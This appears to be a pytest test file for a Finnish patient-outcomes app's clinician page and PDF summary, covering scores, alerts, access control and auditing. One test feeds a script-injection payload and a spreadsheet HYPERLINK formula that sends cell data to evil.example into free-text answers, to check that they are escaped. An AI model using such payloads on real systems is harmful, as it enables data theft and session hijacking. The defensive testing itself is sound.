"""The clinician's patient page and the patient's one-page PDF summary.

The numbers shown are checked against the domain functions run on the same answers
(``domain.scoring.score_frame``, ``domain.reference.reference_band``);
the alerts appear exactly when their condition holds; free text is inert; each view and PDF
is audited once; the page reads each instrument's scores once (its query count does not grow
with the data); only clinicians and pilot leads of the pilot get in.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from datetime import date, timedelta
from html import unescape
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from babel.numbers import format_decimal
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from tests.db.test_exports_service import FORMULA, SCRIPT, store_response
from tests.support.isolation import fresh_globals_per_request
from tests.support.recording import count_statements
from tests.support.staff import staff_login
from vaikuttavuus.domain.reference import reference_band
from vaikuttavuus.domain.scoring import score_frame
from vaikuttavuus.extensions import db
from vaikuttavuus.models import (
    AuditEvent,
    ClinicalMeasurement,
    Invitation,
    Procedure,
    TimePoint,
)
from vaikuttavuus.services.definitions import current_instrument, instrument_spec
from vaikuttavuus.services.patient_outcomes import patient_overview

TIME_POINTS = ("baseline", "m3", "m12")


@pytest.fixture(autouse=True)
def _fresh_request_globals(app: Flask) -> None:
    fresh_globals_per_request(app)


def ipss(total_parts: tuple[int, ...], qol: int = 3) -> dict[str, int]:
    return {f"ipss{k}": v for k, v in enumerate(total_parts, start=1)} | {"ipss_qol": qol}


def quiet(enrolment: Any) -> None:
    """No invitation alerts: every invitation scheduled."""
    for invitation in db.session.scalars(
        select(Invitation).where(Invitation.enrolment_id == enrolment.id)
    ):
        invitation.status = "scheduled"
        invitation.completed_at = None
    db.session.commit()


def invitation(enrolment: Any, code: str) -> Invitation:
    found = db.session.scalar(
        select(Invitation)
        .join(TimePoint, Invitation.time_point_id == TimePoint.id)
        .where(Invitation.enrolment_id == enrolment.id, TimePoint.code == code)
    )
    assert found is not None
    return found


def score_table(html: str, score: str) -> dict[str, list[str]]:
    """The table of one score's section: time-point label → the cells after it."""
    match = re.search(rf'data-score="{re.escape(score)}">(.*?)</section>', html, re.S)
    assert match, f"no section for {score}"
    rows = {}
    for label, cells in re.findall(r'<th scope="row">(.*?)</th>(.*?)</tr>', match.group(1), re.S):
        rows[unescape(label)] = [unescape(c) for c in re.findall(r"<td>(.*?)</td>", cells, re.S)]
    return rows


def alerts_on(html: str) -> list[str]:
    return re.findall(r'data-alert="([a-z]+)"', html)


def patient_text(value: float | None) -> str:
    return "–" if value is None else format_decimal(value, format="#,##0.##", locale="fi")


def cohort_text(value: float | None, places: int = 2) -> str:
    pattern = "#,##0.0" + "#" * (places - 1)
    return "–" if value is None else format_decimal(value, format=pattern, locale="fi")


def expected_scores(
    instrument: str, responses: list[tuple[str, str, dict[str, Any]]]
) -> pd.DataFrame:
    """(patient, time point, answers) → one row per response with every score."""
    spec = instrument_spec(current_instrument(db.session, instrument))
    answers = pd.DataFrame([dict(a) for _, _, a in responses]).reindex(columns=list(spec.item_ids))
    scores = score_frame(spec, answers.astype("float64"))
    scores["patient"] = [p for p, _, _ in responses]
    scores["time_point"] = [t for _, t, _ in responses]
    return scores


@pytest.fixture
def clinician(client: FlaskClient, make_user: Any) -> FlaskClient:
    make_user("kliinikko", "clinician", pilots=("bph", "older-adults"))
    staff_login(client, "kliinikko")
    return client


# -- numbers --------------------------------------------------------------------------------------


def test_scores_and_cohort_bands_equal_the_domain_results(
    clinician: FlaskClient, enrol_patient: Any
) -> None:
    people = {
        "a": enrol_patient(arm="operating_room", index_offset_days=-200),
        "b": enrol_patient(arm="operating_room", index_offset_days=-200),
        "c": enrol_patient(arm="operating_room", index_offset_days=-200),
        "d": enrol_patient(arm="outpatient_clinic", index_offset_days=-200),
    }
    ipss_answers = [
        ("a", "baseline", ipss((3, 4, 2, 3, 4, 1, 0), qol=4)),
        ("a", "m3", ipss((1, 1, 1, 1, 1, 1, 0), qol=2)),
        ("b", "baseline", ipss((5, 5, 3, 2, 2, 2, 1), qol=5)),
        ("b", "m3", ipss((2, 2, 2, 2, 2, 1, 1), qol=3)),
        ("c", "baseline", ipss((2, 2, 2, 2, 2, 2, 2), qol=3)),
        ("d", "baseline", ipss((5, 5, 5, 5, 5, 5, 5), qol=6)),
    ]
    eq5d_answers = [("a", "baseline", {"mo": 2, "sc": 1, "ua": 1, "pd": 3, "ad": 1, "vas": 70})]
    for who, tp, answers in ipss_answers:
        store_response(people[who], tp, "ipss", answers)
    for who, tp, answers in eq5d_answers:
        store_response(people[who], tp, "eq5d5l", answers)
    for enrolment in people.values():
        quiet(enrolment)

    html = clinician.get(f"/clinician/bph/{people['a'].person.pseudonym}").get_data(as_text=True)
    scores = expected_scores("ipss", ipss_answers)
    same_arm = scores[scores["patient"].isin(["a", "b", "c"])]
    labels = {"baseline": "Ennen toimenpidettä", "m3": "3 kuukautta", "m12": "12 kuukautta"}
    for score in ("total", "voiding", "storage", "qol"):
        table = score_table(html, f"ipss.{score}")
        reference = reference_band(same_arm, score).set_index("time_point")
        mine = scores[scores["patient"] == "a"].set_index("time_point")
        for tp in TIME_POINTS:
            cells = table[labels[tp]]
            value = float(mine.at[tp, score]) if tp in mine.index else None
            assert cells[0] == patient_text(value), (score, tp, cells)
            if tp in reference.index:
                ref = reference.loc[tp]
                offset = 1 if score == "total" else 0  # the severity column
                assert cells[1 + offset] == cohort_text(ref["median"]), (score, tp)
                assert cells[2 + offset] == f"{cohort_text(ref['q1'])}–{cohort_text(ref['q3'])}"
                assert cells[3 + offset] == str(int(ref["n"]))
            else:
                assert cells[-1] == "0"
    total = score_table(html, "ipss.total")
    assert [total[labels[tp]][1] for tp in TIME_POINTS] == [
        "Kohtalaiset oireet",
        "Lievät oireet",
        "–",
    ]
    # EQ-5D-5L index (England 2018): 21111 with pain level 3 → 1 − 0.058 − 0.084 = 0.858.
    eq5d = expected_scores("eq5d5l", eq5d_answers)
    index = score_table(html, "eq5d5l.index")[labels["baseline"]]
    assert float(eq5d["index"].iloc[0]) == pytest.approx(0.858)
    assert index[0] == format_decimal(float(eq5d["index"].iloc[0]), "#,##0.###", locale="fi")
    assert index[1] == format_decimal(float(eq5d["index"].iloc[0]), "#,##0.0##", locale="fi")
    # The important-change line: baseline 17, rule "3 points or 25 %" → 3 points.
    assert "vähintään 3 pisteen muutosta lähtötasosta (17)" in html
    assert "data:image/svg+xml;base64," in html


# -- alerts ---------------------------------------------------------------------------------------


def test_alerts_appear_exactly_when_their_condition_holds(
    clinician: FlaskClient, enrol_patient: Any
) -> None:
    today = date.today()
    worse = enrol_patient(index_offset_days=-100)
    not_worse = enrol_patient(index_offset_days=-100)
    # IPSS total: baseline 10; worse by 3 (the pilot's threshold) and by 2.
    store_response(worse, "baseline", "ipss", ipss((2, 2, 2, 1, 1, 1, 1)))
    store_response(worse, "m3", "ipss", ipss((3, 3, 3, 1, 1, 1, 1)))
    store_response(not_worse, "baseline", "ipss", ipss((2, 2, 2, 1, 1, 1, 1)))
    store_response(not_worse, "m3", "ipss", ipss((3, 3, 2, 1, 1, 1, 1)))
    for enrolment in (worse, not_worse):
        quiet(enrolment)
    invitation(worse, "m12").status = "open"
    invitation(worse, "m12").closes_on = today + timedelta(days=7)
    invitation(not_worse, "m12").status = "open"
    invitation(not_worse, "m12").closes_on = today + timedelta(days=8)
    invitation(not_worse, "baseline").status = "expired"
    expired_but_answered = invitation(worse, "baseline")
    expired_but_answered.status = "completed"
    db.session.commit()

    lonely = enrol_patient(pilot="older-adults", arm="outreach", index_offset_days=-10)
    content = enrol_patient(pilot="older-adults", arm="outreach", index_offset_days=-10)
    store_response(lonely, "baseline", "ucla3", {"ucla1": 2, "ucla2": 2, "ucla3": 2})  # 6
    store_response(lonely, "baseline", "insecurity", {"safe_daily": 4})
    store_response(content, "baseline", "ucla3", {"ucla1": 2, "ucla2": 2, "ucla3": 1})  # 5
    store_response(content, "baseline", "insecurity", {"safe_daily": 3})  # insecure
    for enrolment in (lonely, content):
        quiet(enrolment)

    def page(enrolment: Any, pilot: str) -> str:
        url = f"/clinician/{pilot}/{enrolment.person.pseudonym}"
        response = clinician.get(url)
        assert response.status_code == 200
        return response.get_data(as_text=True)

    assert sorted(alerts_on(page(worse, "bph"))) == ["closing", "worse"]
    assert alerts_on(page(not_worse, "bph")) == ["missed"]
    lonely_page = page(lonely, "older-adults")
    assert alerts_on(lonely_page) == ["flag"]
    assert "Lonely (score 6 or more)" in lonely_page or "Yksinäinen" in lonely_page
    content_page = page(content, "older-adults")
    assert alerts_on(content_page) == ["flag"]
    assert "Turvattomuuden tunne" in content_page

    overview = patient_overview(db.session, worse, "en", today)
    (worse_alert,) = [a for a in overview.alerts if a.kind == "worse"]
    assert (worse_alert.baseline, worse_alert.value, worse_alert.threshold) == (10, 13, 3)
    assert worse_alert.score_label == "Total symptom score"
    (closing,) = [a for a in overview.alerts if a.kind == "closing"]
    assert closing.days_left == 7 and closing.time_point == "m12"


def test_a_decline_since_the_previous_follow_up_is_an_alert(
    clinician: FlaskClient, enrol_patient: Any
) -> None:
    """Better than at the baseline, yet clearly worse than three months ago (issue 17: IPSS
    0 → 11 between 3 and 12 months gave no alert). A decline smaller than the important change
    is none; the texts count points and days as Finnish does (1 piste, 3 pistettä)."""
    declining = enrol_patient(index_offset_days=-380)
    steady = enrol_patient(index_offset_days=-380)
    for enrolment, m12 in ((declining, (2, 2, 2, 2, 1, 1, 1)), (steady, (1, 1, 0, 0, 0, 0, 0))):
        store_response(enrolment, "baseline", "ipss", ipss((3, 3, 3, 3, 2, 2, 2)))  # 18
        store_response(enrolment, "m3", "ipss", ipss((0, 0, 0, 0, 0, 0, 0)))  # 0
        store_response(enrolment, "m12", "ipss", ipss(m12))  # 11 or 2
        quiet(enrolment)
    html = clinician.get(f"/clinician/bph/{declining.person.pseudonym}").get_data(as_text=True)
    assert alerts_on(html) == ["declined"]
    text = " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())
    assert "huonompi kuin ajankohtana 3 kuukautta" in text and "3 pistettä (0 → 11" in text
    assert alerts_on(
        clinician.get(f"/clinician/bph/{steady.person.pseudonym}").get_data(as_text=True)
    ) == []
    overview = patient_overview(db.session, declining, "en", date.today())
    (alert,) = overview.alerts
    assert (alert.previous, alert.value, alert.threshold) == (0, 11, 3)
    assert (alert.previous_label, alert.time_point_label) == ("3 months", "12 months")


def test_points_and_days_are_counted_in_the_language(app: Flask) -> None:
    from flask_babel import force_locale

    from vaikuttavuus.services.patient_outcomes import Alert
    from vaikuttavuus.services.patient_summary import alert_texts, points_text

    with app.test_request_context(), force_locale("fi"):
        assert points_text(1) == "1 piste" and points_text(3) == "3 pistettä"
        assert points_text(0.07) == "0,07 pistettä"
        closing = [
            Alert(kind="closing", time_point="m3", time_point_label="3 kuukautta", days_left=d)
            for d in (0, 1, 5)
        ]
        missed = Alert(kind="missed", time_point="baseline", time_point_label="Alkutilanne")
        texts = alert_texts([*closing, missed])
    assert "tänään" in texts[0] and "1 päivän" in texts[1] and "5 päivän" in texts[2]
    assert texts[3] == "Alkutilanne: kyselyyn ei vastattu."


# -- free text, measures, procedures, links -------------------------------------------------------


def test_free_text_renders_inert(clinician: FlaskClient, enrol_patient: Any) -> None:
    enrolment = enrol_patient(index_offset_days=-100)
    store_response(
        enrolment,
        "m3",
        "prem_bph",
        {"overall": 4, "improve": SCRIPT, "comments": FORMULA, "recommend": 9, "respect": 5},
    )
    html = clinician.get(f"/clinician/bph/{enrolment.person.pseudonym}").get_data(as_text=True)
    assert SCRIPT not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in html
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)" in html
    assert "Huono" in html  # the option text of code 4, not the code


def test_answers_not_given_on_the_web_by_the_patient_are_marked(
    clinician: FlaskClient, enrol_patient: Any
) -> None:
    enrolment = enrol_patient(index_offset_days=-100)
    store_response(enrolment, "baseline", "ipss", ipss((1, 1, 1, 1, 1, 1, 1)), mode="paper")
    store_response(enrolment, "m3", "ipss", ipss((0, 0, 0, 0, 0, 0, 0)), proxy=True)
    store_response(enrolment, "m3", "prem_bph", {"overall": 4}, mode="imported")
    url = f"/clinician/bph/{enrolment.person.pseudonym}?lang=en"
    html = clinician.get(url).get_data(as_text=True)
    table = score_table(html, "ipss.total")
    baseline, m3 = table["Before the procedure"][0], table["3 months"][0]
    assert 'data-answered="paper"' in baseline and "(on paper)" in baseline
    assert 'data-answered="proxy"' in m3 and "(by proxy)" in m3
    assert "data-answered" not in table["12 months"][0]
    assert 'data-answered="imported"' in html  # the experience answers' heading
    assert "Marked values were not answered by the patient on the web" in html


def test_clinical_measures_procedures_and_links(
    clinician: FlaskClient, enrol_patient: Any, client: FlaskClient
) -> None:
    enrolment = enrol_patient(index_offset_days=-120)
    index = enrolment.index_date

    def measure(code: str, days: int, value: float | None, text: str | None = None) -> Any:
        row = ClinicalMeasurement(
            enrolment_id=enrolment.id,
            measure_code=code,
            value_num=value,
            value_text=text,
            unit={"qmax": "mL/s", "prostate_volume": "mL"}.get(code),
            measured_on=index + timedelta(days=days),
        )
        db.session.add(row)
        db.session.flush()
        return row

    wrong = measure("qmax", -10, 9.9)
    right = measure("qmax", -10, 8.5)
    wrong.superseded_by_id = right.id
    measure("qmax", 95, 15.25)
    measure("clavien_dindo", 5, None, "II")
    measure("readmission_30d", 20, 1.0)
    db.session.add(
        Procedure(
            enrolment_id=enrolment.id,
            procedure_type="holep",
            setting="operating_room",
            performed_on=index,
            drg_code="11M",
        )
    )
    db.session.commit()
    html = clinician.get(f"/clinician/bph/{enrolment.person.pseudonym}").get_data(as_text=True)
    row = re.search(r'data-measure="qmax">(.*?)</tr>', html, re.S)
    assert row
    cells = [
        re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", row.group(1), re.S)
    ]
    day = lambda d: f"{d.day}.{d.month}.{d.year}"  # noqa: E731
    assert cells[0] == "mL/s"
    assert cells[1] == f"15,25 ({day(index + timedelta(days=95))})"
    assert cells[2] == f"8,5 ({day(index - timedelta(days=10))})"
    assert cells[3] == f"15,25 ({day(index + timedelta(days=95))})"
    assert cells[4] == "–"
    assert "9,9" not in html  # the corrected value is on the measurements page only
    assert "II" in html
    assert re.search(r'data-measure="readmission_30d">.*?(kyllä|yes)', html, re.S)
    assert "Holmiumlaserenukleaatio (HoLEP)" in html and "DRG 11M" in html
    assert f'href="/measurements/bph/{enrolment.person.pseudonym}"' in html
    assert f'href="/costs/bph/{enrolment.person.pseudonym}"' not in html  # pilot leads only


# -- audit, queries, access -----------------------------------------------------------------------


def _events(action: str) -> list[AuditEvent]:
    db.session.expire_all()
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)))


def _populate(enrolment: Any, cohort: list[Any], *, more: bool) -> None:
    store_response(enrolment, "baseline", "ipss", ipss((1, 2, 3, 1, 2, 3, 1)))
    store_response(enrolment, "m3", "prem_bph", {"overall": 2, "comments": "ok"})
    db.session.add(
        ClinicalMeasurement(
            enrolment_id=enrolment.id,
            measure_code="qmax",
            value_num=10.0,
            unit="mL/s",
            measured_on=enrolment.index_date,
        )
    )
    if more:
        store_response(enrolment, "m3", "ipss", ipss((1, 1, 1, 1, 1, 1, 1)))
        store_response(enrolment, "m12", "ipss", ipss((0, 1, 0, 1, 0, 1, 0)))
        for tp in TIME_POINTS:
            store_response(enrolment, tp, "eq5d5l", {"mo": 1, "sc": 1, "ua": 2, "pd": 2, "ad": 1})
        for days in (30, 95, 380):
            db.session.add(
                ClinicalMeasurement(
                    enrolment_id=enrolment.id,
                    measure_code="pvr",
                    value_num=float(days),
                    unit="mL",
                    measured_on=enrolment.index_date + timedelta(days=days),
                )
            )
        for n, other in enumerate(cohort):
            store_response(other, "baseline", "ipss", ipss((n % 5, 1, 1, 1, 1, 1, 1)))
            store_response(other, "m3", "eq5d5l", {"mo": 1, "sc": 1, "ua": 1, "pd": 1, "ad": 1})
    db.session.add(
        Procedure(
            enrolment_id=enrolment.id,
            procedure_type="turp",
            setting="operating_room",
            performed_on=enrolment.index_date,
        )
    )
    db.session.commit()


def test_each_view_is_audited_once_and_queries_do_not_grow_with_the_data(
    clinician: FlaskClient, enrol_patient: Any
) -> None:
    small = enrol_patient(index_offset_days=-400)
    large = enrol_patient(index_offset_days=-400)
    cohort = [enrol_patient(index_offset_days=-400) for _ in range(6)]
    _populate(small, [], more=False)
    _populate(large, cohort, more=True)
    counts = []
    large_person = large.person_id
    for pseudonym in (small.person.pseudonym, large.person.pseudonym):
        clinician.get(f"/clinician/bph/{pseudonym}")  # warm-up: charts, caches, login
        db.session.remove()
        before = len(_events("view_patient"))
        with count_statements() as statements:
            assert clinician.get(f"/clinician/bph/{pseudonym}").status_code == 200
        counts.append(len(statements))
        assert len(_events("view_patient")) == before + 1
    assert counts[0] == counts[1], counts
    assert counts[1] < 40, counts
    event = _events("view_patient")[-1]
    assert event.person_id == large_person and event.actor == "kliinikko"
    assert event.pilot_code == "bph"


@pytest.mark.parametrize("role", ["management", "admin"])
def test_other_roles_are_refused(
    client: FlaskClient, make_user: Any, enrol_patient: Any, role: str
) -> None:
    enrolment = enrol_patient()
    make_user(f"user_{role}", role)
    staff_login(client, f"user_{role}")
    pseudonym = enrolment.person.pseudonym
    assert client.get(f"/clinician/bph/{pseudonym}").status_code == 403
    assert client.get(f"/clinician/bph/{pseudonym}/summary.pdf").status_code == 403
    assert _events("view_patient") == [] and _events("export_patient_summary") == []


def test_clinicians_of_another_pilot_are_refused(
    client: FlaskClient, make_user: Any, enrol_patient: Any
) -> None:
    enrolment = enrol_patient()
    make_user("vanhuskliinikko", "clinician", pilots=("older-adults",))
    staff_login(client, "vanhuskliinikko")
    pseudonym = enrolment.person.pseudonym
    assert client.get(f"/clinician/bph/{pseudonym}").status_code == 403
    assert client.get(f"/clinician/bph/{pseudonym}/summary.pdf").status_code == 403
    assert client.get(f"/clinician/older-adults/{pseudonym}").status_code == 404


# -- the PDF summary ------------------------------------------------------------------------------


def pdf_text(data: bytes, tmp_path: Path) -> tuple[str, int]:
    assert shutil.which("pdftotext"), "install poppler-utils"
    path = tmp_path / "summary.pdf"
    path.write_bytes(data)
    text = subprocess.run(
        ["pdftotext", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True)
    pages = int(re.search(r"Pages:\s+(\d+)", info.stdout).group(1))  # type: ignore[union-attr]
    return text, pages


LANGUAGE_MARKERS = {
    "fi": ("Ennen toimenpidettä", "Eturauhasoireet (IPSS)", "Toimenpiteet"),
    "sv": ("Före åtgärden", "3 månader", "Operationssal"),
    "en": ("Before the procedure", "3 months", "Summary of your outcomes"),
}


@pytest.mark.one_backend
@pytest.mark.parametrize("language", ["fi", "sv", "en"])
def test_patient_summary_pdf_in_each_language(
    clinician: FlaskClient, enrol_patient: Any, tmp_path: Path, language: str
) -> None:
    enrolment = enrol_patient(
        index_offset_days=-100,
        first_name="Väinö",
        last_name="Pdf-Potilas",
        preferred_language=language,
    )
    others = [enrol_patient(index_offset_days=-100) for _ in range(5)]
    answers = [
        ("me", "baseline", ipss((3, 4, 2, 3, 4, 1, 2))),
        ("me", "m3", ipss((1, 1, 1, 1, 1, 1, 1))),
    ] + [(f"o{n}", "baseline", ipss((n, n, 1, 1, 1, 1, 1))) for n in range(5)]
    store_response(enrolment, "baseline", "ipss", answers[0][2])
    store_response(enrolment, "m3", "ipss", answers[1][2])
    store_response(
        enrolment, "m3", "eq5d5l", {"mo": 1, "sc": 1, "ua": 1, "pd": 2, "ad": 1, "vas": 80}
    )
    for n, other in enumerate(others):
        store_response(other, "baseline", "ipss", answers[2 + n][2])
    db.session.add(
        Procedure(
            enrolment_id=enrolment.id,
            procedure_type="turp",
            setting="operating_room",
            performed_on=enrolment.index_date,
        )
    )
    db.session.add(
        ClinicalMeasurement(
            enrolment_id=enrolment.id,
            measure_code="qmax",
            value_num=12.5,
            unit="mL/s",
            measured_on=enrolment.index_date - timedelta(days=5),
        )
    )
    quiet(enrolment)
    invitation(enrolment, "m12").status = "expired"
    db.session.commit()
    before = len(_events("export_patient_summary"))

    response = clinician.get(f"/clinician/bph/{enrolment.person.pseudonym}/summary.pdf")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/pdf"
    assert "attachment" in response.headers["Content-Disposition"]
    text, pages = pdf_text(response.data, tmp_path)
    assert pages == 1
    flat = " ".join(text.split())
    for marker in LANGUAGE_MARKERS[language]:
        assert marker in flat, (language, marker, flat)
    assert "Väinö Pdf-Potilas" in flat and enrolment.person.pseudonym in flat
    scores = expected_scores("ipss", answers)
    decimal = "," if language in ("fi", "sv") else "."
    mine = scores[scores["patient"] == "me"].set_index("time_point")["total"]
    assert f"{int(mine['baseline'])}" in flat and f"{int(mine['m3'])}" in flat
    # Baseline cohort: six patients (≥ 5, shown); m3: only this patient (< 5, hidden).
    baseline_ref = reference_band(scores, "total").set_index("time_point").loc["baseline"]
    median = format_decimal(baseline_ref["median"], "#,##0.0#", locale=language)
    q1 = format_decimal(baseline_ref["q1"], "#,##0.0#", locale=language)
    assert f"{median} ({q1}–" in flat, (median, flat)
    m3_median = format_decimal(float(mine["m3"]), "#,##0.0#", locale=language)
    assert f"{m3_median} (" not in flat
    assert f"12{decimal}5" in flat  # Qmax
    assert len(_events("export_patient_summary")) == before + 1
    event = _events("export_patient_summary")[-1]
    assert event.details == {"format": "pdf", "language": language}
    assert event.person_id == enrolment.person_id

    other = "en" if language != "en" else "sv"
    again = clinician.get(
        f"/clinician/bph/{enrolment.person.pseudonym}/summary.pdf", query_string={"lang_pdf": other}
    )
    text, _pages = pdf_text(again.data, tmp_path)
    assert LANGUAGE_MARKERS[other][0] in " ".join(text.split())


def test_summary_has_only_plain_values_and_no_audit_on_refusal(
    clinician: FlaskClient, enrol_patient: Any
) -> None:
    from vaikuttavuus.services.patient_summary import summary_context

    enrolment = enrol_patient(index_offset_days=-20)
    store_response(enrolment, "baseline", "ipss", ipss((1, 1, 1, 1, 1, 1, 1)))
    from flask_babel import force_locale

    with force_locale("en"):
        context = summary_context(db.session, enrolment, "en", date.today())

    def plain(value: object) -> bool:
        if isinstance(value, dict):
            return all(plain(v) for v in value.values())
        if isinstance(value, list | tuple):
            return all(plain(v) for v in value)
        if hasattr(value, "__dataclass_fields__"):
            return all(plain(getattr(value, f)) for f in value.__dataclass_fields__)
        return value is None or isinstance(value, str | int | float | date)

    assert plain(context)
    assert clinician.get("/clinician/bph/NOBODY/summary.pdf").status_code == 404
    count = db.session.scalar(
        select(func.count()).select_from(AuditEvent).where(AuditEvent.action.like("export%"))
    )
    assert count == 0
